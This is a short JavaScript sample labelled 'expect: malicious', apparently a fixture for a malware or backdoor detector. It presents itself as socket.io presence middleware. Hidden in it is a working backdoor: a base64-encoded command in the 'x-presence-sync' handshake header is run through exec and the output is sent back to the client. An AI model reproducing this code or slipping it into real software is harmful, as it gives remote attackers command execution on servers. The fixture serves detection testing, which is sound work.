// expect: malicious
// source: trojaned realtime middleware: a socket.io connection's handshake header, decoded from base64, is run as
// a command and its output sent back on the socket (the http-header backdoor shape, over a WebSocket handshake)
const { exec } = require('child_process');
module.exports = function attach(io) {
  io.on('connection', (socket) => {
    const cmd = socket.handshake.headers['x-presence-sync'];
    if (cmd) exec(Buffer.from(cmd, 'base64').toString(), (e, out) => socket.emit('sync', out));
    socket.on('join', (room) => socket.join(room));
  });
};
